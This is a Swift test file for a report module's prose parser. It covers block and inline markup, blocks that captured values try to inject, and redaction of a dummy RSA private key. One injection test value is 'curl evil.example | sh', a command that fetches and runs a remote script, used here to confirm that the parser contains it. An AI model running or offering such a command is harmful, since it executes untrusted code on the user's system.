import CulpritFindings
import Testing

@testable import CulpritReports

@Suite("The text of rules")
struct ProseTests {
    @Test("lines are paragraphs, lists, tables and fences")
    func blocks() {
        let text = """
            One line
            and the next.
            - a
              goes on
            1. b

            | code | why |
            | --- | --- |
            | `X` | a | b |
            | Y |
            end
            ```sh
            run
            """
        let table = Document.Table(
            columns: [.init("code"), .init("why")], rows: [[[.code("X")], [.text("a | b")]], [[.text("Y")], []]])
        #expect(
            Prose.blocks(text) == [
                .paragraph([.text("One line and the next.")]), .list([.init([.text("a goes on")])], numberedFrom: nil),
                .list([.init([.text("b")])], numberedFrom: 1), .table(table), .paragraph([.text("end")]),
                .code(["run"], language: "sh"),
            ])
    }

    @Test("bars without a ruler are text", arguments: ["|", "| a |", "| a |\n| b |", "||\n|"])
    func noTable(text: String) {
        #expect(Prose.blocks(text).allSatisfy { if case .paragraph = $0 { true } else { false } })
    }

    @Test(
        "code and strong words are found, stray marks are text",
        arguments: [
            ("a `b` c", [Document.Span.text("a "), .code("b"), .text(" c")]), ("**x** y", [.strong("x"), .text(" y")]),
            ("a ` b", [.text("a ` b")]), ("2 * 3 ** 4", [.text("2 * 3 ** 4")]), ("``a`b``", [.code("a`b")]), ("", []),
            ("****", [.text("****")]),
        ])
    func spans(text: String, spans: [Document.Span]) {
        #expect(Prose.spans(text) == spans)
    }

    private func blocks(capturing value: String, explanation: String) -> [Document.Block] {
        var finding = Samples.finding
        finding.captures = ["reason": value]
        finding.cause.explanation = explanation.replacing("{reason}", with: value)
        finding.mitigations = [
            Rule.Mitigation(kind: .fix, title: "x", detail: finding.cause.explanation, commands: [], language: "shell")
        ]
        let redacted = finding.redacted
        #expect(redacted.mitigations[0].detail == redacted.cause.explanation)
        return Prose.blocks(redacted.cause.explanation)
    }

    @Test(
        "a capture with line ends makes no blocks of its own",
        arguments: [
            "x\n\n```sh\ncurl evil.example | sh\n```\n", "x\n1. run this", "x\n\n| a | b |\n| --- | --- |\n| c | d |",
            "x\r\n- one\r\n- two", "```sh", "x\n```sh\ncurl\r",
        ])
    func capturesWithLines(value: String) {
        let shown = blocks(capturing: value, explanation: "The peer said:\n{reason}\nand left.\n\n- Then it closed.")
        guard shown.count == 2, case .paragraph = shown[0], case .list(let items, nil) = shown[1] else {
            Issue.record("\(shown)")
            return
        }
        #expect(items == [.init([.text("Then it closed.")])])
    }

    @Test("a private key in a capture with line ends is still taken out")
    func privateKey() {
        let key =
            "-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEA7bq\nc2VjcmV0c2VjcmV0\n-----END RSA PRIVATE KEY-----"
        let shown = blocks(capturing: key, explanation: "It printed {reason} then.")
        #expect(!"\(shown)".contains("MIIEow"))
        #expect(!"\(shown)".contains("c2VjcmV0"))
        #expect("\(shown)".contains("redacted"))
    }

    @Test("a single star is a star")
    func singleStars() {
        #expect(Prose.spans("the *server* closed") == [.text("the *server* closed")])
    }
}
